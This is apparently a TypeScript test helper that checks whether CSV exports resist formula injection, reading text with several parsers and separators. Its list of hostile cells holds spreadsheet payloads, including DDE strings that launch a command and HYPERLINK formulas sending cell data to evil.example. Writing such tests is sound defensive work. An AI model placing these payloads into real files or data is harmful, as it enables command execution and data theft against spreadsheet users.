/**
 * Hostile cells and the readers that try them: what the CSV-injection tests of exports and of
 * copied rows share. A text is read with each of the separators `,` `;` TAB — a spreadsheet or
 * script set to another separator than the text's — by
 *  - csv-parse as an RFC 4180 reader (a record it cannot read with that separator is skipped, as a
 *    strict reader refuses it);
 *  - the way LibreOffice Calc's import splits text (./calcCsvReader.ts): quotes honoured, but a
 *    quoted field ends only at a quote followed by the separator;
 *  - Python's standard `csv` module (/usr/bin/python3), which once a closing quote is followed by
 *    something other than its separator reads on without quoting, so a TAB or line break inside
 *    the cell can start a cell or record of its own. A program, not a spreadsheet, reads it: a
 *    cell counts as a formula when it starts (after blanks) with `=` `+` `-` `@` or their fullwidth
 *    forms. It also splits at a `,` or `;` inside a cell when set to that separator, which no
 *    export can prevent without changing ordinary text (docs/security.md, "Limits worth
 *    knowing"), so only the cells it starts at a TAB or a line break are checked: every cell of
 *    a TAB reading, the first cell of each record of the others.
 */
import { spawnSync } from 'node:child_process';
import { parse } from 'csv-parse/sync';
import { readLikeCalc } from './calcCsvReader.ts';

/** The separators every text is read with. */
export const SEPARATORS = [',', ';', '\t'] as const;

/** Cells an attacker would put into a contact or an order to run something in a spreadsheet. */
export const HOSTILE_CELLS = [
  `Acme;=cmd|' /C calc'!A0`,
  `Acme,=cmd|' /C calc'!A0`,
  `Acme\t=cmd|' /C calc'!A0`,
  `Acme; =HYPERLINK("http://evil.example/?"&A1;"x")`,
  '\t=1+1',
  '\r=1+1',
  '=x\t=1+1',
  '   =1+1',
  ' \u00a0\u3000+1+1',
  '\u00a0\t-1+1',
  '＝1+1',
  '＋cmd|\' /C calc\'!A0',
  '－1+1',
  '＠SUM(A1)',
  `";=cmd|' /C calc'!A0;`,
  `";=cmd|' /C calc'!A0,`,
  `  ;=cmd|' /C calc'!A0;`,
  `,=cmd|' /C calc'!A0,`,
  `\t;=1+1;`,
  `x"";=1+1;`,
  `"`,
  `""`,
  `a"\r\n=1+1`,
  'first\r\n=1+1;=2+2',
  `=HYPERLINK("http://evil.example/?"&A1,"x")`,
  '\0=1+1',
  'a\t"=1+1',
  'a\n @SUM(A1)',
  'a\r\n\t-1+1',
];

const NUMBER = /^\s*[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?\s*$/;
const FORMULA_STARTER = /^\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/u;

/** True when a spreadsheet would take `cell` as a formula (numbers are numbers; a leading TAB, CR or NUL is stripped or split on). */
export function startsFormula(cell: string): boolean {
  if (NUMBER.test(cell)) return false;
  return FORMULA_STARTER.test(cell) || /^[\t\r\0]/.test(cell);
}

/** True when `cell` starts (after blanks) with a formula starter and is not a number. */
export function startsWithFormulaStarter(cell: string): boolean {
  return !NUMBER.test(cell) && FORMULA_STARTER.test(cell);
}

// Reads stdin (UTF-8, BOM skipped) as a file opened with newline='' the way the csv docs say, once
// per separator; a record the reader raises an error for is left out, as a strict reader refuses it.
const PYTHON_READER = `
import csv, io, json, sys
text = sys.stdin.buffer.read().decode('utf-8-sig')
out = {}
for sep in (',', ';', '\\t'):
    records = []
    reader = csv.reader(io.StringIO(text, newline=''), delimiter=sep)
    while True:
        try:
            records.append(next(reader))
        except StopIteration:
            break
        except csv.Error:
            continue
    out[sep] = records
sys.stdout.write(json.dumps(out))
`;

/** The records Python's `csv` module reads from `text`, by separator. */
export function readWithPython(text: string): Record<string, string[][]> {
  const run = spawnSync('/usr/bin/python3', ['-c', PYTHON_READER], { input: text, encoding: 'utf8', maxBuffer: 1 << 28 });
  if (run.error) throw run.error;
  if (run.status !== 0) throw new Error(`python3 csv reader failed (${String(run.status)}): ${run.stderr}`);
  return JSON.parse(run.stdout) as Record<string, string[][]>;
}

/** Every cell of every reading of `text` (csv-parse, Calc's way and Python's `csv`, each separator) that starts a formula. */
export function formulaCells(text: string, bom: boolean): string[] {
  const found: string[] = [];
  const python = readWithPython(text);
  for (const sep of SEPARATORS) {
    const strict = parse(text, { delimiter: sep, bom, record_delimiter: ['\r\n', '\n', '\r'], relax_column_count: true, skip_records_with_error: true }) as string[][];
    for (const record of strict) for (const cell of record) if (startsFormula(cell)) found.push(`csv-parse ${JSON.stringify(sep)}: ${JSON.stringify(cell)}`);
    for (const record of readLikeCalc(text, sep)) for (const cell of record) if (startsFormula(cell)) found.push(`calc ${JSON.stringify(sep)}: ${JSON.stringify(cell)}`);
    for (const record of python[sep]!) {
      for (const cell of sep === '\t' ? record : record.slice(0, 1)) {
        if (startsWithFormulaStarter(cell)) found.push(`python csv ${JSON.stringify(sep)}: ${JSON.stringify(cell)}`);
      }
    }
  }
  return found;
}
